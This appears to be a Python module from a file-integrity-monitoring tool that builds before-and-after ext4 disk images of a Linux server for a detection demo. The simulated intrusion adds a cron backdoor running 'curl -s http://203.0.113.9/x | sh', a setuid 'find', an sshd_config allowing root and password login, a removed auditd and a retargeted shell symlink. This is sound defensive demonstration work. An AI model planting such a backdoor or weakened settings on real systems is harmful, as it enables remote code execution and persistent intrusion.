"""`snapfim demo`: two small, real ext4 disk images of a Linux server, before and after an
intrusion.

The "before" image is built from a generated tree with ``mkfs.ext4 -d`` inside a GPT disk
(a 1 MiB gap, one Linux partition); the "after" image is a copy changed in place with
``debugfs`` the way an attacker would change a server: a cron backdoor, a setuid shell, a
replaced ``sshd_config``, a removed audit tool, a retargeted symlink. Nothing is mounted.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from scanner.errors import ConfigError
from scanner.paths import is_within
from scanner.policy import EntityKind, ExcludeMatcher, PolicyEntity, segment_regex

SECTOR = 512
PART_START = 2048  # sectors
FS_SIZE_MB = 24

_FILES: dict[str, tuple[str, int]] = {
    "etc/passwd": ("root:x:0:0:root:/root:/bin/bash\nwww:x:33:33::/var/www:/usr/sbin/nologin\n",
                   0o644),
    "etc/shadow": ("root:*:19000:0:99999:7:::\n", 0o640),
    "etc/hostname": ("web-01\n", 0o644),
    "etc/fstab": ("# <fs> <mountpoint> <type> <options> <dump> <pass>\n"
                  "LABEL=demo-root / ext4 defaults 0 1\n", 0o644),
    "etc/resolv.conf": ("nameserver 10.0.0.2\n", 0o644),
    "etc/sysctl.conf": ("net.ipv4.ip_forward = 0\n", 0o644),
    "etc/ssh/sshd_config": ("PermitRootLogin no\nPasswordAuthentication no\n", 0o600),
    "etc/crontab": ("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", 0o644),
    "etc/cron.daily/logrotate": ("#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0o755),
    "etc/cron.hourly/.placeholder": ("", 0o644),
    "etc/init.d/nginx": ("#!/bin/sh\nexec /usr/sbin/nginx\n", 0o755),
    "etc/logrotate.conf": ("weekly\nrotate 4\n", 0o644),
    "usr/bin/bash": ("\x7fELF bash " * 400, 0o755),
    "usr/bin/ls": ("\x7fELF ls " * 300, 0o755),
    "usr/bin/find": ("\x7fELF find " * 300, 0o755),
    "usr/bin/passwd": ("\x7fELF passwd " * 200, 0o4755),
    "usr/bin/login": ("\x7fELF login " * 200, 0o755),
    "usr/sbin/sshd": ("\x7fELF sshd " * 500, 0o755),
    "usr/sbin/nginx": ("\x7fELF nginx " * 500, 0o755),
    "usr/sbin/auditd": ("\x7fELF auditd " * 300, 0o755),
    "usr/sbin/logrotate": ("\x7fELF logrotate " * 100, 0o755),
    "boot/vmlinuz-6.1.0": ("kernel image " * 2000, 0o644),
    "boot/grub/grub.cfg": ("linux /vmlinuz-6.1.0 root=LABEL=demo-root ro\n", 0o644),
    "var/www/index.html": ("<h1>hello</h1>\n", 0o644),
    "var/log/syslog": ("boot ok\n", 0o640),
}
_SYMLINKS = {"bin": "usr/bin", "sbin": "usr/sbin", "usr/bin/sh": "bash"}

# debugfs commands that turn "before" into "after" (paths inside the image).
_INSTALL_TIME = "20261101080000"  # when the server was installed (UTC)
_ATTACK_TIME = "20261120031415"  # when the "attacker" worked (UTC), so the demo is repeatable
_ATTACK = """\
write {payload} /etc/cron.hourly/backdoor
sif /etc/cron.hourly/backdoor mode 0100755
rm /etc/ssh/sshd_config
write {sshd} /etc/ssh/sshd_config
sif /etc/ssh/sshd_config mode 0100600
sif /usr/bin/find mode 0104755
rm /usr/sbin/auditd
rm /usr/bin/sh
symlink /usr/bin/sh /tmp/.x/sh
rm /etc/sysctl.conf
write {sysctl} /etc/sysctl.conf
rm /var/log/syslog
write {syslog} /var/log/syslog
sif /var/log/syslog mode 0100640
""" + "".join(f"sif {path} {field} {_ATTACK_TIME}\n"
              for path in ("/etc/cron.hourly/backdoor", "/etc/ssh/sshd_config", "/usr/bin/sh",
                           "/etc/sysctl.conf", "/var/log/syslog")
              for field in ("mtime", "ctime", "crtime", "atime")) + (
    f"sif /usr/bin/find ctime {_ATTACK_TIME}\n")


# Every path the "attacker" changes, for the demo's closing note.
ATTACKED_PATHS = ("/etc/cron.hourly/backdoor", "/etc/ssh/sshd_config", "/usr/bin/find",
                  "/usr/sbin/auditd", "/usr/bin/sh", "/etc/sysctl.conf", "/var/log/syslog")


def _covers(entity: PolicyEntity, path: str) -> bool:
    """True when an entity's tree (its depth and excludes considered) holds ``path``."""
    if entity.kind is not EntityKind.LINUX_FILE:
        return False
    if ExcludeMatcher(entity.excludes).excluded(path):
        return False
    base = entity.path.rstrip("/") or "/"
    if entity.is_pattern:
        parent, _, last = base.rpartition("/")
        parts = path.split("/")
        level = len([p for p in (parent or "/").split("/") if p]) + 1
        if len(parts) <= level or "/".join(parts[:level]) != (parent or ""):
            return False
        if not segment_regex(last).match(parts[level]):
            return False
        below = len(parts) - level - 1
        return entity.depth is None or below <= entity.depth
    if not is_within(path, base):
        return False
    below = len([p for p in path[len(base):].split("/") if p])
    return entity.depth is None or below <= entity.depth


def closing_note(policy: list[PolicyEntity], reported: set[str]) -> list[str]:
    """What the demo says at the end, from the policy and what the scan reported: the
    intruder's changes that were not reported and how to monitor them from the next scan."""
    missed = [p for p in ATTACKED_PATHS if p not in reported]
    if not missed:
        return [f"Every file the intruder changed was reported ({len(ATTACKED_PATHS)})."]
    lines = [f"The intruder also changed {', '.join(missed)}: not reported, because"]
    for path in missed:
        disabled = [e for e in policy if not e.enabled and _covers(e, path)]
        if disabled:
            lines.append(f"  {path}: {disabled[0].name} is disabled "
                         f"(`snapfim policy enable {disabled[0].name}` watches it again)")
        else:
            parent = path.rsplit("/", 1)[0] or "/"
            lines.append(f"  {path}: no monitored path covers it "
                         f"(`snapfim policy add {parent}` watches it)")
    lines.append("(from the next scan on; run `snapfim demo` again to see it)")
    return lines


def _run(argv: list[str], **kwargs: object) -> subprocess.CompletedProcess[bytes]:
    if shutil.which(argv[0]) is None:
        raise ConfigError(f"{argv[0]} not found: install e2fsprogs and gdisk (apt-get install "
                          "e2fsprogs gdisk)")
    try:
        return subprocess.run(argv, check=True, capture_output=True, **kwargs)  # type: ignore[call-overload]
    except subprocess.CalledProcessError as exc:
        detail = exc.stderr.decode(errors="replace").strip().splitlines()
        raise ConfigError(f"{' '.join(argv[:2])} failed: {detail[-1] if detail else exc}") from exc


def _build_tree(root: Path) -> None:
    if root.exists():
        shutil.rmtree(root)
    for rel, (content, mode) in _FILES.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        path.chmod(mode)
    for rel, target in _SYMLINKS.items():
        (root / rel).symlink_to(target)
    (root / "tmp").mkdir(mode=0o1777)


def _debugfs(disk: Path, script: Path) -> None:
    """Run a debugfs script on the demo's ext4 partition, in place (``disk?offset=N``)."""
    _run(["debugfs", "-w", "-f", str(script), f"{disk}?offset={PART_START * SECTOR}"])


def build_demo_images(workdir: Path) -> tuple[Path, Path]:
    """Build ``before.img`` and ``after.img`` (GPT disks with one ext4 partition) in ``workdir``."""
    workdir.mkdir(parents=True, exist_ok=True)
    tree = workdir / "tree"
    _build_tree(tree)
    before, after = workdir / "before.img", workdir / "after.img"
    fs_bytes = FS_SIZE_MB << 20
    disk_bytes = PART_START * SECTOR + fs_bytes + (1 << 20)
    before.unlink(missing_ok=True)
    with open(before, "wb") as handle:
        handle.truncate(disk_bytes)
    _run(["sgdisk", "-o", "-n", f"1:{PART_START}:+{FS_SIZE_MB}M", "-t", "1:8300",
          "-c", "1:root", str(before)])
    _run(["mkfs.ext4", "-q", "-F", "-L", "demo-root", "-d", str(tree), "-E",
          f"root_owner=0:0,offset={PART_START * SECTOR}", "-I", "256", "-U",
          "6f1d2c3b-0a9e-4d5c-8b7a-123456789abc", str(before), f"{FS_SIZE_MB << 10}k"])
    # Every time of the "before" server is the install day, so the demo is the same each run.
    paths = ["/" + str(p.relative_to(tree)) for p in sorted(tree.rglob("*"))]
    pin = workdir / "install.debugfs"
    pin.write_text("".join(f"sif {path} {field} {_INSTALL_TIME}\n" for path in paths
                           for field in ("mtime", "ctime", "crtime", "atime")))
    _debugfs(before, pin)
    payload = workdir / "backdoor.sh"
    payload.write_text("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    sshd = workdir / "sshd_config"
    sshd.write_text("PermitRootLogin yes\nPasswordAuthentication yes\n")
    sysctl = workdir / "sysctl.conf"
    sysctl.write_text("net.ipv4.ip_forward = 1\n")
    syslog = workdir / "syslog"
    syslog.write_text("boot ok\nsshd: accepted password for root\n")
    shutil.copyfile(before, after)
    script = workdir / "attack.debugfs"
    script.write_text(_ATTACK.format(payload=payload, sshd=sshd, sysctl=sysctl, syslog=syslog))
    _debugfs(after, script)
    return before, after
